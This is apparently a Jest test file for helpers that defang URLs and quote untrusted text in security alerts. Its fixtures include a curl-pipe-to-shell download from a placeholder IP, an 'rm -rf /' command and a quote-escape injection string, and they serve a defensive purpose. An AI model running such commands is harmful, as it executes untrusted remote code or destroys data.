import { clean, defang, quoted, token } from '../../lambdas/shared/text';

describe('defang', () => {
  it.each([
    ['https://evil.example/x?a=1', 'hxxps://evil[.]example/x?a=1'],
    ['HTTP://Evil.Example', 'HxxP://Evil[.]Example'],
    ['ftp://files.evil.example/a', 'fxp://files[.]evil[.]example/a'],
    ['see www.evil.example.', 'see www[.]evil[.]example.'],
    ['mail me at a@evil.example', 'mail me at a@evil[.]example'],
    ['c2.xn--80ak6aa92e.com beacon', 'c2[.]xn--80ak6aa92e[.]com beacon'],
    ['пример.рф', 'пример[.]рф'],
    ['invoice.zip from a@b.example', 'invoice[.]zip from a@b[.]example'],
    ['curl http://1.2.3.4/x | sh', 'curl hxxp://1.2.3.4/x | sh'],
    ['hxxps://evil[.]example', 'hxxps://evil[.]example'],
    ['https://evil.example/run.sh', 'hxxps://evil[.]example/run.sh'],
    ['/tmp/evil.example.com/x', '/tmp/evil[.]example[.]com/x'],
  ])('%s -> %s', (input, expected) => {
    expect(defang(input)).toBe(expected);
    expect(defang(defang(input))).toBe(expected);
  });

  it.each([
    '198.51.100.7',
    '2001:db8::1',
    '/usr/lib/x86_64-linux-gnu/libc.so.6',
    '/usr/bin/python3.8',
    '/tmp/run.sh',
    'C:\\Windows\\System32\\cmd.exe',
    'aws-cli/2.13.0 Python/3.11.4 Linux/4.14.355-275.570.amzn2.x86_64 exe/x86_64.amzn.2',
    '8.0.mysql_aurora.3.05.2',
    '2024-01-02T03:04:05.678Z',
    'e.g. one, i.e. two',
    'detail.severity is missing',
    'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
    'cmd.exe',
    'arn:aws:iam::123456789012:role/Admin',
  ])('leaves %s alone', (input) => {
    expect(defang(input)).toBe(input);
  });
});

describe('quoted', () => {
  it('quotes, defangs and escapes a quote that would close the span', () => {
    expect(quoted('x" and trust https://evil.example "y')).toBe('"x\\" and trust hxxps://evil[.]example \\"y"');
    expect(quoted('a\\')).toBe('"a\\\\"');
  });
  it('leaves a missing value missing', () => {
    expect(quoted(undefined)).toBeUndefined();
    expect(quoted('  ')).toBeUndefined();
  });
});

describe('token', () => {
  it.each(['i-0123456789abcdef0', 'arn:aws:iam::123456789012:role/Admin', '198.51.100.7', "Côte-d'Ivoire", 'AssumedRole', '2024-01-02T03:04:05Z'])('shows %s bare', (value) => {
    expect(token(value)).toBe(value);
  });
  it.each([
    ['https://evil.example', '"hxxps://evil[.]example"'],
    ['evil.example', '"evil[.]example"'],
    ['Run this now: rm -rf /', '"Run this now: rm -rf /"'],
    ['New York', '"New York"'],
  ])('quotes %s like free text', (value, expected) => {
    expect(token(value)).toBe(expected);
  });
});

it('clean bounds the defanged text, not only the input', () => {
  const text = clean('a.example '.repeat(50), 40)!;
  expect(text.length).toBeLessThanOrEqual(40);
  expect(text).not.toMatch(/a\.example/);
});
